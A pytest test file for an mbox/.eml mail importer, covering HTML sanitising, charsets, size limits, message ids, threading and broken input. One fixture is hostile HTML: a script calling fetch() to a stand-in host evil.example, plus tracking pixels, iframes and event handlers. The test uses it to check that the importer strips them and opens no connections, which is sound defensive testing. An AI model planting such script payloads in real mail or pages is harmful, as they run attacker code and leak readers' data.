"""The mbox/.eml importer on hand-made mail: HTML, charsets, huge bodies, ids, threads, broken files.

Mail is built with ``mailfactory``; expected texts are the strings the mail was made from (or what
Python's own codecs make of the bytes), never the importer's output.
"""

from __future__ import annotations

import base64
import json
import quopri
import socket
import time
from pathlib import Path
from typing import Any

import pytest

from console.storage import Workspace
from services.importers import run_import
from services.importers.mailbody import MAX_HTML_CHARS, MAX_TEXT_CHARS
from tests.unit.importers.mailfactory import mail, mbox, write

BRAND = "help@brand.example"


def at(hour: int, minute: int = 0) -> str:
    return f"Mon, 08 Jan 2024 {hour:02d}:{minute:02d}:00 +0000"


def rows(ws: Workspace, sql: str = "SELECT * FROM messages ORDER BY external_id") -> list[Any]:
    return ws.query(sql)


def only(ws: Workspace) -> dict[str, Any]:
    found = rows(ws)
    assert len(found) == 1, found
    return dict(found[0])


def extra_of(row: dict[str, Any]) -> dict[str, Any]:
    return dict(json.loads(row["extra"] or "{}"))


def conversations(ws: Workspace) -> dict[int, set[str]]:
    groups: dict[int, set[str]] = {}
    for row in rows(ws, "SELECT conversation_id, external_id FROM messages"):
        groups.setdefault(row["conversation_id"], set()).add(row["external_id"])
    return groups


def import_one(ws: Workspace, tmp_path: Path, data: bytes, name: str = "in.mbox") -> Any:
    return run_import(ws, write(tmp_path / name, data))


# -- HTML ---------------------------------------------------------------------------------------

HOSTILE_HTML = """<html><head><title>Secret title</title>
<style>body { color: red } .x { background: url(http://css.example/bg.png) }</style>
<script>alert('stolen'); fetch('http://evil.example/x')</script></head>
<body onload="bodyLoaded()">
<p onclick="clicked()">Hello <b>there</b>, my kettle leaks.</p>
<img src="http://track.example/pixel.gif" alt="tracking pixel" width="1">
<img src="cid:logo@brand" alt="logo">
<p>See the <a href="https://brand.example/help" onmouseover="hovered()">help page</a>.</p>
<iframe src="http://frame.example/"></iframe>
<object data="http://object.example/x.swf"></object>
<script type="text/javascript">document.write('<p>written by script</p>')</script>
</body></html>"""


def test_html_only_mail_becomes_safe_plain_text(
    workspace: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    attempts: list[Any] = []

    def refuse(*args: Any, **kwargs: Any) -> None:
        attempts.append(args)
        raise OSError("the importer must not open connections")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    data = mbox(mail(content_type="text/html; charset=utf-8", body=HOSTILE_HTML))
    summary = import_one(workspace, tmp_path, data)
    assert (summary.added, summary.problems) == (1, [])
    assert attempts == []
    row = only(workspace)
    text = row["text"]
    assert "Hello there, my kettle leaks." in text
    assert "help page" in text  # link text kept
    for gone in (
        "alert",
        "stolen",
        "evil.example",
        "written by script",
        "color: red",
        "css.example",
        "Secret title",
        "bodyLoaded",
        "clicked",
        "hovered",
        "track.example",
        "pixel",
        "frame.example",
        "object.example",
        "cid:logo",
        "<",
        ">",
    ):
        assert gone not in text, gone
    assert extra_of(row)["html"] is True


@pytest.mark.parametrize("html_first", [True, False])
def test_multipart_alternative_prefers_the_plain_part(
    workspace: Workspace, tmp_path: Path, html_first: bool
) -> None:
    html = "Content-Type: text/html; charset=utf-8\n\n<p>The <b>HTML</b> version</p>\n"
    plain = "Content-Type: text/plain; charset=utf-8\n\nThe plain version\n"
    parts = [html, plain] if html_first else [plain, html]
    body = "".join(f"--B\n{p}" for p in parts) + "--B--\n"
    data = mbox(mail(content_type='multipart/alternative; boundary="B"', body=body))
    import_one(workspace, tmp_path, data)
    row = only(workspace)
    assert row["text"] == "The plain version"
    assert "html" not in extra_of(row) and "attachments" not in extra_of(row)


def test_attachments_are_listed_not_read(workspace: Workspace, tmp_path: Path) -> None:
    pdf = base64.b64encode(b"%PDF-1.4 secret invoice bytes").decode()
    body = (
        "--B\nContent-Type: text/plain; charset=utf-8\n\nInvoice attached.\n"
        "--B\nContent-Type: application/pdf; name=invoice.pdf\n"
        "Content-Disposition: attachment; filename=invoice.pdf\n"
        f"Content-Transfer-Encoding: base64\n\n{pdf}\n--B--\n"
    )
    import_one(
        workspace, tmp_path, mbox(mail(content_type='multipart/mixed; boundary="B"', body=body))
    )
    row = only(workspace)
    assert row["text"] == "Invoice attached."
    assert extra_of(row)["attachments"] == [{"name": "invoice.pdf", "type": "application/pdf"}]


# -- charsets -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("charset", "encoding", "text"),
    [
        ("iso-8859-1", "8bit", "Caf\u00e9 d\u00e9j\u00e0 vu, gar\u00e7on"),
        ("iso-8859-1", "quoted-printable", "R\u00e9clamation: \u00e0 rembourser"),
        ("windows-1252", "8bit", "\u201cQuoted\u201d \u2013 costs \u20ac 5"),
        (
            "koi8-r",
            "8bit",
            "\u041f\u0440\u0438\u0432\u0435\u0442, \u0447\u0430\u0439\u043d\u0438\u043a",
        ),
        ("koi8-r", "base64", "\u0427\u0430\u0439\u043d\u0438\u043a \u0442\u0435\u0447\u0451\u0442"),
        ("utf-8", "base64", "Z\u00fcrich \u6771\u4eac \U0001f600"),
        ("utf-8", "quoted-printable", "na\u00efve fa\u00e7ade \u2014 ok"),
    ],
)
def test_body_charsets_decode(
    workspace: Workspace, tmp_path: Path, charset: str, encoding: str, text: str
) -> None:
    raw = text.encode(charset)
    if encoding == "base64":
        body = base64.encodebytes(raw)
    elif encoding == "quoted-printable":
        body = quopri.encodestring(raw)
    else:
        body = raw
    assert body.isascii() == (encoding != "8bit")
    data = mbox(
        mail(
            content_type=f"text/plain; charset={charset}",
            transfer_encoding=encoding,
            body=body + b"\n",
        )
    )
    import_one(workspace, tmp_path, data)
    assert only(workspace)["text"] == text


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ("=?iso-8859-1?Q?R=E9clamation_urgente?=", "R\u00e9clamation urgente"),
        ("=?windows-1252?Q?=93Broken=94_kettle?=", "\u201cBroken\u201d kettle"),
        ("=?koi8-r?B?" + base64.b64encode("Чайник".encode("koi8-r")).decode() + "?=", "Чайник"),
        (
            "Re: =?utf-8?B?" + base64.b64encode("Zoë".encode()).decode() + "?= again",
            "Re: Zoë again",
        ),
    ],
)
def test_encoded_subjects_decode(
    workspace: Workspace, tmp_path: Path, header: str, expected: str
) -> None:
    import_one(workspace, tmp_path, mbox(mail(subject=header)))
    assert only(workspace)["subject"] == expected


def test_encoded_and_folded_sender_name(workspace: Workspace, tmp_path: Path) -> None:
    name = base64.b64encode("Zoë Ångström".encode()).decode()
    data = mbox(
        mail(
            sender=f"=?utf-8?B?{name}?= <Zoe@Example.ORG>",
            subject="A very long subject that a mailer\n folded onto a second line",
        )
    )
    import_one(workspace, tmp_path, data)
    row = only(workspace)
    assert (row["author_name"], row["author"]) == ("Zoë Ångström", "zoe@example.org")
    assert row["subject"] == "A very long subject that a mailer folded onto a second line"


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("text/plain; charset=x-no-such-charset", b"Bad \xff\xfe bytes, caf\xc3\xa9 ok\n"),
        (None, b"Undeclared \xff bytes, caf\xc3\xa9 ok\n"),
        ("text/plain; charset=us-ascii", b"Mislabelled \xc3\x28 bytes, caf\xc3\xa9 ok\n"),
        ("text/plain; charset=utf-8", b"Invalid \xed\xa0\x80 UTF-8, caf\xc3\xa9 ok\n"),
    ],
)
def test_invalid_or_undeclared_charset_keeps_the_text_with_replacement(
    workspace: Workspace, tmp_path: Path, content_type: str | None, body: bytes
) -> None:
    data = mbox(mail(content_type=content_type, transfer_encoding="8bit", body=body))
    summary = import_one(workspace, tmp_path, data)
    assert (summary.added, summary.problems) == (1, [])
    expected = body.decode("utf-8", "replace").strip()
    text = only(workspace)["text"]
    assert text == expected
    # U+FFFD exactly where the bytes were invalid UTF-8, and the valid "café" survives.
    assert text.count("\ufffd") == expected.count("\ufffd") >= 1
    assert "caf\u00e9 ok" in text


def test_raw_8bit_header_bytes_do_not_break_the_import(
    workspace: Workspace, tmp_path: Path
) -> None:
    data = mail(subject="caf-E9").replace(b"Subject: caf-E9", b"Subject: caf\xe9 et cr\xc3\xa8me")
    summary = import_one(workspace, tmp_path, mbox(data))
    assert (summary.added, summary.problems) == (1, [])
    assert only(workspace)["subject"] == "caf\ufffd et cr\u00e8me"


# -- size ---------------------------------------------------------------------------------------


def test_a_5_mb_plain_mail_is_cut_with_a_marker(workspace: Workspace, tmp_path: Path) -> None:
    lines = [f"line {i:07d} of a very long complaint" for i in range(160_000)]
    body = "\n".join(lines) + "\n"
    assert len(body) > 5_000_000
    started = time.monotonic()
    summary = import_one(workspace, tmp_path, mbox(mail(body=body)))
    elapsed = time.monotonic() - started
    assert (summary.added, summary.problems) == (1, [])
    row = only(workspace)
    text, notes = row["text"], extra_of(row)
    kept = body.strip()[:MAX_TEXT_CHARS]
    assert text.startswith(kept)
    dropped = len(body.strip()) - MAX_TEXT_CHARS
    assert text.endswith(f"[… {dropped:,} more characters not imported]")
    assert notes["truncated"] == {"chars": len(body.strip()), "kept": MAX_TEXT_CHARS}
    assert elapsed < 20, f"a 5 MB mail took {elapsed:.1f} s"


def test_a_5_mb_html_mail_says_its_html_was_cut(workspace: Workspace, tmp_path: Path) -> None:
    paragraphs = "".join(f"<p>paragraph {i} <b>bold</b></p>\n" for i in range(180_000))
    html = f"<html><body>{paragraphs}</body></html>"
    assert len(html) > 5_000_000
    started = time.monotonic()
    data = mbox(mail(content_type="text/html; charset=utf-8", body=html))
    summary = import_one(workspace, tmp_path, data)
    elapsed = time.monotonic() - started
    assert (summary.added, summary.problems) == (1, [])
    row = only(workspace)
    text, notes = row["text"], extra_of(row)
    assert text.startswith("paragraph 0 bold\n\nparagraph 1 bold")
    truncated = notes["truncated"]
    part_chars = len(html) + 1  # the part ends with the mail's last newline
    assert truncated["html_chars"] == part_chars and truncated["html_chars_kept"] == MAX_HTML_CHARS
    # The reader sees in the text itself that most of the mail is missing.
    dropped = part_chars - MAX_HTML_CHARS
    assert text.endswith(f"[… {dropped:,} more characters of HTML not imported]")
    assert elapsed < 20, f"a 5 MB HTML mail took {elapsed:.1f} s"


# -- ids ----------------------------------------------------------------------------------------


def test_a_mail_without_message_id_gets_a_stable_synthetic_id(
    workspace: Workspace, tmp_path: Path
) -> None:
    no_id = mail(None, body=b"No id on this one.\n")
    other = mail(None, body=b"A different mail, no id either.\n")
    first = import_one(workspace, tmp_path, mbox(no_id, other), "a.mbox")
    assert first.added == 2
    ids = {r["external_id"] for r in rows(workspace)}
    assert len(ids) == 2 and all(i.endswith("@agent-console.invalid") for i in ids)
    assert all(extra_of(dict(r))["message_id_synthesized"] for r in rows(workspace))
    again = import_one(workspace, tmp_path, mbox(no_id, other), "b.mbox")
    assert (again.added, again.skipped) == (0, 2)
    # The same bytes as a single .eml file (even with CRLF) are the same message.
    as_eml = import_one(workspace, tmp_path, no_id.replace(b"\n", b"\r\n"), "c.eml")
    assert (as_eml.format, as_eml.added, as_eml.skipped) == ("eml", 0, 1)


def test_two_copies_of_one_message_id_are_one_message(workspace: Workspace, tmp_path: Path) -> None:
    first = mail("<dup@x.org>", body=b"first copy\n")
    second = mail("<dup@x.org>", body=b"second copy, via the list\n")
    summary = import_one(workspace, tmp_path, mbox(first, second))
    assert (summary.read, summary.added, summary.skipped) == (2, 1, 1)
    assert only(workspace)["text"] == "first copy"


# -- threads ------------------------------------------------------------------------------------


def test_reply_before_its_parent_then_the_parent_joins(
    workspace: Workspace, tmp_path: Path
) -> None:
    root = mail("<root@x.org>", date=at(9), body=b"My kettle leaks.\n")
    follow_up = mail(
        "<follow@x.org>",
        date=at(11),
        subject="Re: Kettle",
        in_reply_to="<root@x.org>",
        references="<root@x.org>",
        body=b"Any news?\n",
    )
    first = import_one(workspace, tmp_path, mbox(follow_up), "later.mbox")
    assert first.added == 1
    conv = workspace.query_one("SELECT * FROM conversations")
    assert conv is not None and conv["thread_key"] == "root@x.org"
    assert only(workspace)["parent_external_id"] == "root@x.org"

    second = import_one(workspace, tmp_path, mbox(root), "earlier.mbox")
    assert second.added == 1
    assert list(conversations(workspace).values()) == [{"root@x.org", "follow@x.org"}]
    conv = workspace.query_one("SELECT * FROM conversations")
    assert conv is not None
    assert (conv["message_count"], conv["started_at"]) == (2, rows(workspace)[1]["created_at"])
    assert workspace.scalar("SELECT count(*) FROM customers") == 1


def test_brand_replies_are_outbound_with_an_account(workspace: Workspace, tmp_path: Path) -> None:
    question = mail("<q@x.org>", date=at(9), to=BRAND)
    answer = mail(
        "<a@x.org>",
        sender=f"Help Desk <{BRAND}>",
        to="Ann Example <ann@example.org>",
        date=at(10),
        subject="Re: Kettle",
        in_reply_to="<q@x.org>",
        references="<q@x.org>",
        body=b"We are sending a new one. ^CP\n",
    )
    path = write(tmp_path / "desk.mbox", mbox(question, answer))
    summary = run_import(workspace, path, account=BRAND)
    assert summary.added == 2
    got = {r["external_id"]: r["direction"] for r in rows(workspace)}
    assert got == {"q@x.org": "in", "a@x.org": "out"}
    assert len(conversations(workspace)) == 1
    assert workspace.scalar("SELECT name FROM accounts") == BRAND
    assert [r["handle"] for r in rows(workspace, "SELECT handle FROM identities")] == [
        "ann@example.org"
    ]


def test_a_late_parent_from_another_guessed_account_keeps_accounts_consistent(
    workspace: Workspace, tmp_path: Path
) -> None:
    answer = mail(
        "<c1@x.org>",
        sender=f"Help <{BRAND}>",
        to="ann@example.org",
        date=at(10),
        in_reply_to="<r@x.org>",
        references="<r@x.org>",
    )
    again = mail(
        "<c2@x.org>", date=at(11), in_reply_to="<c1@x.org>", references="<r@x.org> <c1@x.org>"
    )
    import_one(workspace, tmp_path, mbox(answer, again), "1.mbox")
    import_one(workspace, tmp_path, mbox(mail("<r@x.org>", date=at(9))), "2.mbox")
    assert len(conversations(workspace)) == 1
    mixed = workspace.scalar(
        "SELECT count(*) FROM messages m JOIN conversations c ON c.id = m.conversation_id"
        " WHERE m.account_id != c.account_id"
    )
    assert mixed == 0


def test_references_alone_thread_a_chain_in_any_order(workspace: Workspace, tmp_path: Path) -> None:
    a = mail("<a@x.org>", date=at(9))
    b = mail("<b@x.org>", date=at(10), subject="Re: Kettle", references="<a@x.org>")
    c = mail("<c@x.org>", date=at(11), subject="Re: Kettle", references="<a@x.org>\n <b@x.org>")
    unrelated = mail("<u@x.org>", date=at(12), subject="Toaster")
    import_one(workspace, tmp_path, mbox(c, unrelated, b, a))
    assert sorted(conversations(workspace).values(), key=len) == [
        {"u@x.org"},
        {"a@x.org", "b@x.org", "c@x.org"},
    ]
    parents = {r["external_id"]: r["parent_external_id"] for r in rows(workspace)}
    assert parents == {"a@x.org": None, "b@x.org": "a@x.org", "c@x.org": "b@x.org", "u@x.org": None}


def test_replies_to_a_missing_root_share_one_conversation(
    workspace: Workspace, tmp_path: Path
) -> None:
    b = mail("<b@x.org>", date=at(10), in_reply_to="<gone@x.org>", references="<gone@x.org>")
    c = mail("<c@x.org>", date=at(11), in_reply_to="<gone@x.org>", references="<gone@x.org>")
    alone = mail("<d@x.org>", date=at(12), in_reply_to="<other-gone@x.org>")
    import_one(workspace, tmp_path, mbox(b, c, alone))
    assert sorted(conversations(workspace).values(), key=len) == [
        {"d@x.org"},
        {"b@x.org", "c@x.org"},
    ]


def test_ids_without_an_at_sign_do_not_chain_threads(workspace: Workspace, tmp_path: Path) -> None:
    # Some mailers write "In-Reply-To: <yes>" (55 times in the lkml sample).
    one = mail("<one@x.org>", in_reply_to="<yes>", references="<yes>")
    two = mail("<two@x.org>", date=at(11), in_reply_to="<yes>", subject="Other thing")
    import_one(workspace, tmp_path, mbox(one, two))
    assert len(conversations(workspace)) == 2
    assert {r["parent_external_id"] for r in rows(workspace)} == {None}


# -- broken files -------------------------------------------------------------------------------


def separator_lines(data: bytes) -> list[int]:
    return [n for n, line in enumerate(data.split(b"\n"), 1) if line.startswith(b"From ")]


def test_broken_mbox_entries_are_reported_by_line_and_the_rest_imports(
    workspace: Workspace, tmp_path: Path
) -> None:
    good = mail("<good@x.org>", body=b"Fine.\n")
    garbage = b"\x00\x01 this is not a header line\n\xff\xfe more junk\n\nbody\n"
    no_sender = b"Subject: who am I\nMessage-ID: <nobody@x.org>\n\nno From at all\n"
    last = mail("<last@x.org>", date=at(12), body=b"Also fine.\n")
    data = mbox(good, garbage, no_sender, last)
    starts = separator_lines(data)
    assert len(starts) == 4
    summary = import_one(workspace, tmp_path, data)
    assert summary.read == 2 and summary.added == 2
    assert [p.line for p in summary.problems] == [starts[1], starts[2]]
    assert "not an email message" in summary.problems[0].message
    assert "no sender" in summary.problems[1].message
    assert {r["external_id"] for r in rows(workspace)} == {"good@x.org", "last@x.org"}


def test_a_multipart_without_its_boundary_keeps_its_text(
    workspace: Workspace, tmp_path: Path
) -> None:
    data = mbox(
        mail(
            content_type='multipart/mixed; boundary="never-used"',
            body=b"The boundary never appears, but this text is the customer's.\n",
        )
    )
    summary = import_one(workspace, tmp_path, data)
    assert (summary.added, summary.problems) == (1, [])
    row = only(workspace)
    assert row["text"] == "The boundary never appears, but this text is the customer's."
    assert extra_of(row)["broken_multipart"] is True


def test_text_before_the_first_separator_is_reported(workspace: Workspace, tmp_path: Path) -> None:
    data = b"stray preamble line\n" + mbox(mail("<m@x.org>"))
    summary = import_one(workspace, tmp_path, data, "pre.mbox")
    assert summary.added == 1
    assert [p.line for p in summary.problems] == [1]


def test_mboxrd_quoting_is_undone_and_unquoted_body_from_lines_do_not_split(
    workspace: Workspace, tmp_path: Path
) -> None:
    body = b"From the start it leaked.\n>From a quoted line.\nFrom here on, nothing.\n"
    data = mbox(mail("<q@x.org>", body=body))
    assert b"\n>From the start" in data and b"\n>>From a quoted" in data
    import_one(workspace, tmp_path, data)
    assert only(workspace)["text"] == body.decode().strip()


def test_crlf_mbox_reads_like_lf(tmp_path: Path) -> None:
    mails = [
        mail("<a@x.org>", date=at(9)),
        mail(
            "<b@x.org>",
            date=at(10),
            content_type="text/plain; charset=utf-8",
            transfer_encoding="quoted-printable",
            body=quopri.encodestring("Line one caf\u00e9\nline two \u2014 end\n".encode()),
            references="<a@x.org>",
        ),
        mail("<c@x.org>", date=at(11), content_type="text/html", body=b"<p>Hi <i>you</i></p>"),
    ]
    query = (
        "SELECT external_id, parent_external_id, author, author_name, subject, text, created_at,"
        " conversation_id, extra FROM messages ORDER BY external_id"
    )
    results = []
    for crlf in (False, True):
        ws = Workspace(tmp_path / f"ws-{crlf}.sqlite")
        try:
            data = mbox(*mails, crlf=crlf)
            assert (b"\r\n" in data) == crlf
            summary = run_import(ws, write(tmp_path / f"m-{crlf}.mbox", data))
            assert (summary.added, summary.problems) == (3, [])
            results.append(ws.query(query))
        finally:
            ws.close()
    assert results[0] == results[1]
    assert "\r" not in "".join(r["text"] for r in results[1])
    assert results[1][1]["text"] == "Line one caf\u00e9\nline two \u2014 end"


def test_an_eml_folder_reports_what_is_not_mail_and_imports_the_rest(
    workspace: Workspace, tmp_path: Path
) -> None:
    folder = tmp_path / "export"
    write(folder / "01.eml", mail("<e1@x.org>"))
    write(folder / "02.eml", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR binary, not mail")
    write(folder / "03.eml", b"")
    write(folder / "sub" / "10.eml", mail("<e10@x.org>", date=at(12)).replace(b"\n", b"\r\n"))
    write(folder / "photo.jpg", b"\xff\xd8\xff\xe0 not a mail")
    write(folder / ".DS_Store", b"\x00\x00\x00\x01Bud1")
    summary = run_import(workspace, folder)
    assert (summary.format, summary.read, summary.added) == ("eml", 2, 2)
    messages = sorted(p.message for p in summary.problems)
    assert messages == [
        "02.eml: not an email message: no headers",
        "03.eml: empty file",
        "photo.jpg: not an .eml file, skipped",
    ]
    assert {r["external_id"] for r in rows(workspace)} == {"e1@x.org", "e10@x.org"}
    files = {r["external_id"]: extra_of(dict(r))["file"] for r in rows(workspace)}
    assert files == {"e1@x.org": "01.eml", "e10@x.org": str(Path("sub") / "10.eml")}


def test_a_date_less_mail_takes_the_mbox_separator_date(
    workspace: Workspace, tmp_path: Path
) -> None:
    data = mbox(mail("<nd@x.org>", date=None), separator_dates=["Tue Feb  6 07:08:09 2024"])
    import_one(workspace, tmp_path, data)
    row = only(workspace)
    assert row["created_at"] == 1707203289  # 2024-02-06T07:08:09Z
    assert extra_of(row)["date_source"] == "mbox From line"


# -- the CLI ------------------------------------------------------------------------------------


def test_cli_import_prints_a_json_summary_and_progress(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from console.cli import main

    broken = b"Subject: no sender\nMessage-ID: <ns@x.org>\n\nwho?\n"
    data = mbox(mail("<c1@x.org>"), broken, mail("<c2@x.org>", date=at(11)))
    path = write(tmp_path / "support.mbox", data)
    db = tmp_path / "cli.sqlite"

    assert main(["--db", str(db), "import", str(path)]) == 0
    out, err = capsys.readouterr()
    summary = json.loads(out)
    assert summary["format"] == "mbox"
    assert (summary["read"], summary["added"], summary["skipped"]) == (2, 2, 0)
    assert summary["errors"] == [
        {
            "line": separator_lines(data)[1],
            "message": "no sender address (From, Sender and Return-Path missing or unreadable)",
        }
    ]
    assert "importing support.mbox" in err  # progress goes to stderr, never into the JSON
    assert f"support.mbox: line {separator_lines(data)[1]}: no sender" in err

    assert main(["--db", str(db), "import", str(path), "--format", "mbox"]) == 0
    again = json.loads(capsys.readouterr().out)
    assert (again["read"], again["added"], again["skipped"]) == (2, 0, 2)
    ws = Workspace(db)
    try:
        assert ws.scalar("SELECT count(*) FROM messages") == 2
    finally:
        ws.close()
